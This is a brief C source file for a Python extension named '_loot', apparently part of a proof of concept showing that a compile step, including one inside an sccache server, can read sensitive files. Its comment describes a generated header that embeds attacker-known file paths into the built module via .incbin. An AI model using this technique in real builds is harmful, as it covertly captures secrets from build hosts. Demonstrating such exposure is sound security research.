/* What the compiler could read: targets.h (written by setup.py) has an .incbin of every path an attacker
   knows of, for each one the compiler finds (__has_include); the bytes land in the extension's .rodata. With
   sccache the compiler runs in sccache's server, so this shows what the server's compiles see. */
#include <Python.h>

#include "targets.h"

static struct PyModuleDef loot_module = {PyModuleDef_HEAD_INIT, "_loot", NULL, -1, NULL};

PyMODINIT_FUNC PyInit__loot(void) { return PyModule_Create(&loot_module); }
